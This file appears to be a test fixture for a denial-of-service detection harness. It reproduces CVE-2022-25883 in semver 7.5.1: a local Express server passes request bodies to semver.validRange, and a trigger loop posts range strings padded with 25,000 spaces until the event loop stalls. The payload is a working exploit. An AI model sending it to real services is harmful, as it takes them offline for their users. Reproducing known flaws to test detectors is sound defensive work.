// A range with many blanks: the time that its expressions take grows with their square.
module.exports = {
  expects: "event_loop_stall",
  pkg: "semver@7.5.1",
  issue: "npm/node-semver#609 (CVE-2022-25883)",
  ms: 7_000,
  start() {
    const express = require("express");
    const semver = require("semver");
    const app = express();
    app.use(express.text({ limit: "1mb" }));
    app.get("/health", (_request, response) => response.send("ok"));
    app.post("/", (request, response) => {
      response.send(String(semver.validRange(request.body)));
    });
    return app;
  },
  async trigger({ req, sleep, stop }) {
    for (let patch = 10; !stop.v; patch++) {
      const body = `>=1.2.${patch}${" ".repeat(25_000)}<2`;
      const headers = { "content-type": "text/plain", "content-length": body.length };
      req({ path: "/", method: "POST", headers, body });
      await sleep(1_500);
    }
  },
};
